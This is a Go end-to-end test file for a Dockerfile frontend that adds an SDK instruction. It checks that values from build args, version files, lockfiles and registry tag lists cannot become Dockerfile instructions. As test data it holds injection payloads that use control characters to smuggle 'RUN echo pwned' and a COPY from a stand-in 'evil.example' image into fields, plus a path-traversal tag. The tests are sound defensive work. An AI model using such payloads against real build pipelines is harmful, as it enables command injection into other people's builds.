package e2e

import (
	"bytes"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"

	digest "github.com/opencontainers/go-digest"

	"github.com/sdkfront/sdkfront/lock"
)

// The trust boundary, through the real daemon: a value from outside the
// Dockerfile (a build arg, the lockfile, a project file, the source
// template, a registry's answer) never becomes Dockerfile syntax. Each
// hostile value either fails the build at the line that uses it, naming the
// field and the character, before any RUN step, or is ignored; nothing that
// the Dockerfile does not name is run, pinned or fetched.

// injected are the payloads a review turned into instructions that ran.
const (
	injectMount = "/sdk\vtrue\nCOPY\v--from=evil.example/pwn:latest\v/\v/\nRUN"
	injectQuote = "1.23.2\"\nRUN echo pwned > /pwned\nENV Z=\""
)

// refusedAt checks that a build failed at the user's line, with every
// want in its output, and that nothing ran or was fetched for the payload.
func refusedAt(t *testing.T, r result, df string, line int, want ...string) {
	t.Helper()
	userLine := strings.Split(df, "\n")[line-1]
	want = append(want, "Dockerfile:"+strconv.Itoa(line)+"\n", ">>> "+userLine)
	for _, w := range want {
		if !strings.Contains(r.err, w) {
			t.Errorf("output lacks %q:\n%s", w, tail(r.err, 30))
		}
	}
	if strings.Contains(r.err, "] RUN ") {
		t.Errorf("a RUN step ran before the error:\n%s", tail(r.err, 30))
	}
	notInjected(t, r)
}

// notInjected checks that no step of the payloads ran and no image they
// name was looked up.
func notInjected(t *testing.T, r result) {
	t.Helper()
	for _, bad := range []string{"] RUN echo pwned", "] RUN\vecho", "load metadata for evil.example", "] COPY --from=evil.example"} {
		if strings.Contains(r.err, bad) {
			t.Errorf("the build shows %q: the payload became an instruction\n%s", bad, tail(r.err, 30))
		}
	}
	if _, err := os.Stat(filepath.Join(r.outDir, "pwned")); err == nil {
		t.Error("the payload ran: /pwned exists")
	}
}

func TestInjectionBuildArgs(t *testing.T) {
	base := "FROM " + lab.registry + "/lab/busybox\n"
	cases := []struct {
		name, body string
		args       map[string]string
		line       int
		want       []string
	}{
		{"mount target", "ARG DIR\nRUN --mount=type=sdk,ref=golang@1.23.4,target=${DIR} go version\n",
			map[string]string{"DIR": injectMount}, 5, []string{"target=", `'\x0b'`}},
		{"mount source", "ARG S\nRUN --mount=type=sdk,ref=golang@1.23.4,target=/sdk,source=${S} ls\n",
			map[string]string{"S": "bin\fRUN\fecho"}, 5, []string{"source=", `'\x0c'`}},
		{"SDK --to", "ARG DIR\nSDK golang@1.23.4 --to=${DIR}\n",
			map[string]string{"DIR": "/opt/go\nRUN echo pwned > /pwned"}, 5, []string{"--to=", `'\x0a'`}},
		{"SDK --to carriage return", "ARG DIR\nSDK golang@1.23.4 --to=${DIR}\n",
			map[string]string{"DIR": "/opt/go\rRUN echo pwned"}, 5, []string{"--to=", `'\x0d'`}},
		{"reference", "ARG V\nSDK golang@${V}\n",
			map[string]string{"V": injectQuote}, 5, []string{"golang@1.23.2"}},
		{"flavor", "ARG F\nSDK golang@1.23.4 --flavor=${F}\n",
			map[string]string{"F": "bookworm\vRUN"}, 5, []string{"flavor"}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			df := header(base + c.body)
			var args []string
			for k, v := range c.args {
				args = append(args, "--opt", "build-arg:"+k+"="+v)
			}
			r := buildctl(t, project(t, df, map[string]string{}), args...).mustFail(t)
			refusedAt(t, r, df, c.line, c.want...)
		})
	}
}

func TestInjectionSourceTemplate(t *testing.T) {
	df := "# syntax=" + lab.frontend + "\nFROM " + lab.registry + "/lab/busybox\nSDK golang@1.23.4\n"
	tmpl := lab.registry + "/sdks/{platform}:{flavor}-{version}\nRUN echo pwned > /pwned"
	r := buildctl(t, project(t, df, map[string]string{}), "--opt", "build-arg:SDK_SOURCE="+tmpl).mustFail(t)
	for _, w := range []string{"build arg SDK_SOURCE", `character '\x0a' is not allowed in a source template`} {
		if !strings.Contains(r.err, w) {
			t.Errorf("output lacks %q:\n%s", w, tail(r.err, 20))
		}
	}
	notInjected(t, r)
}

// TestInjectionProjectFile: a version file's first word is its version (as
// pyenv, nvm and asdf read them); what follows is never read. A first word
// that is not a version fails at the line, naming the file.
func TestInjectionProjectFile(t *testing.T) {
	df := header("FROM " + lab.registry + "/lab/busybox\nSDK python@file:.python-version\nRUN mkdir /out && ls /opt/python > /out/v\n" + exportOut)
	for name, content := range map[string]string{
		"newline":      "3.11.9\nRUN echo pwned > /pwned\n",
		"vertical tab": "3.11.9\vRUN\vecho\vpwned\n",
		"space":        "3.11.9 RUN echo pwned\n",
	} {
		t.Run("ignored/"+name, func(t *testing.T) {
			r := buildctl(t, project(t, df, map[string]string{".python-version": content})).mustSucceed(t)
			if got := strings.TrimSpace(r.file(t, "v")); got != "3.11.9" {
				t.Errorf("/opt/python holds %q, want 3.11.9", got)
			}
			notInjected(t, r)
		})
	}
	for name, c := range map[string]struct{ file, content, line string }{
		"quote":         {".python-version", "3.11.9\"RUN\n", "SDK python@file:.python-version"},
		"control":       {".python-version", "3.11\x1b[2J\n", "SDK python@file:.python-version"},
		"package.json":  {"package.json", `{"engines":{"node":"20\nRUN echo pwned > /pwned"}}`, "SDK nodejs@file:package.json"},
		"package.json2": {"package.json", `{"engines":{"node":"20\" && echo pwned"}}`, "SDK nodejs@file:package.json"},
	} {
		t.Run("refused/"+name, func(t *testing.T) {
			df := header("FROM " + lab.registry + "/lab/busybox\n" + c.line + "\nRUN mkdir /out\n")
			r := buildctl(t, project(t, df, map[string]string{c.file: c.content})).mustFail(t)
			refusedAt(t, r, df, 4, c.file)
		})
	}
}

func TestInjectionLockfile(t *testing.T) {
	source := lab.registry + "/sdks/{platform}:{flavor}-{version}"
	df := header("FROM " + lab.registry + "/lab/busybox\nSDK golang@1.23\nRUN mkdir /out && go version > /out/v\n" + exportOut)
	good := lockEntry(t, "golang@1.23", source, lab.registry+"/sdks/golang", "sdks/golang", "bookworm-1.23.4", "1.23.4")

	// An image the Dockerfile does not name, pushed so that pinning it
	// would work if the lock were trusted.
	evilLayer := sdkLayer(t, tarGz(t, map[string]string{"bin/go": "#!/bin/sh\necho evil\n"}))
	pushLayer(t, "sdks/evil:bookworm-1.23.4", evilLayer)
	evil := good
	evil.Repository = lab.registry + "/sdks/evil"
	evil.Digest = manifestDigest(t, "sdks/evil", "bookworm-1.23.4")
	evil.Platforms = map[string]digest.Digest{"linux/amd64": evil.Digest}

	version := good
	version.Version = injectQuote
	tag := good
	tag.Tag = "bookworm-1.22.10"
	outside := good
	outside.Version, outside.Tag = "1.22.10", "bookworm-1.22.10"
	outside.Digest = manifestDigest(t, "sdks/golang", "bookworm-1.22.10")
	outside.Platforms = map[string]digest.Digest{"linux/amd64": outside.Digest}
	short := good
	short.Digest = "sha256:abc"

	for name, c := range map[string]struct {
		e    lock.Entry
		want []string
	}{
		"repository":         {evil, []string{"Dockerfile.sdk.lock", "repository", "sdks/evil"}},
		"version":            {version, []string{"Dockerfile.sdk.lock", "version"}},
		"tag":                {tag, []string{"Dockerfile.sdk.lock", "tag"}},
		"outside constraint": {outside, []string{"Dockerfile.sdk.lock", "1.22.10"}},
		"digest":             {short, []string{"Dockerfile.sdk.lock", "digest"}},
	} {
		t.Run(name, func(t *testing.T) {
			dir := project(t, df, map[string]string{})
			writeLock(t, dir, c.e)
			log := markLog(t)
			r := buildctl(t, dir).mustFail(t)
			refusedAt(t, r, df, 4, c.want...)
			if reqs := log.requests(t, "/sdks/evil/"); len(reqs) != 0 {
				t.Errorf("the build fetched from the repository only the lock names:\n%s", strings.Join(reqs, "\n"))
			}
		})
	}
}

// TestInjectionRegistryAnswers: a registry whose tag list holds tags that
// carry Dockerfile syntax. They are not versions: the build resolves the
// newest real one.
func TestInjectionRegistryAnswers(t *testing.T) {
	hostile := []string{
		"bookworm-1.23.99\"\nRUN echo pwned > /pwned\nENV Z=\"",
		"bookworm-1.23.98\vRUN\vecho\vpwned",
		"bookworm-1.23.97 --from=evil.example/pwn",
		"bookworm-1.23.96/../../etc",
		"bookworm-1.23.95" + strings.Repeat("9", 200),
	}
	target, _ := url.Parse("http://" + lab.registry)
	proxy := httputil.NewSingleHostReverseProxy(target)
	var served atomic.Int32
	proxy.ModifyResponse = func(resp *http.Response) error {
		if !strings.HasSuffix(resp.Request.URL.Path, "/sdks/golang/tags/list") || resp.StatusCode != 200 {
			return nil
		}
		body, err := io.ReadAll(resp.Body)
		resp.Body.Close()
		if err != nil {
			return err
		}
		var page struct {
			Name string   `json:"name"`
			Tags []string `json:"tags"`
		}
		if err := json.Unmarshal(body, &page); err != nil {
			return err
		}
		page.Tags = append(page.Tags, hostile...)
		served.Add(1)
		body, _ = json.Marshal(page)
		resp.Body = io.NopCloser(bytes.NewReader(body))
		resp.ContentLength = int64(len(body))
		resp.Header.Set("Content-Length", strconv.Itoa(len(body)))
		resp.Header.Del("Link")
		return nil
	}
	srv := httptest.NewServer(proxy)
	defer srv.Close()
	host := strings.TrimPrefix(srv.URL, "http://")
	df := "# syntax=" + lab.frontend + "\n# sdk-source=" + host + "/sdks/{platform}:{flavor}-{version}\nFROM " + lab.registry + "/lab/busybox\nSDK golang@1.23\nRUN mkdir /out && go version > /out/v\n" + exportOut
	r := buildctl(t, project(t, df, map[string]string{})).mustSucceed(t)
	if served.Load() == 0 {
		t.Fatalf("the proxy never served a tag list:\n%s", tail(r.err, 20))
	}
	if got := r.file(t, "v"); !strings.Contains(got, "go1.23.4") {
		t.Errorf("go version = %q, want go1.23.4 (the newest real tag)", got)
	}
	if !strings.Contains(r.err, "golang@1.23 -> 1.23.4 (bookworm)") {
		t.Errorf("progress does not show the real version:\n%s", tail(r.err, 30))
	}
	if strings.Contains(r.err, "pwned") || strings.Contains(r.err, "evil.example") {
		t.Errorf("a hostile tag reached the build:\n%s", tail(r.err, 30))
	}
}
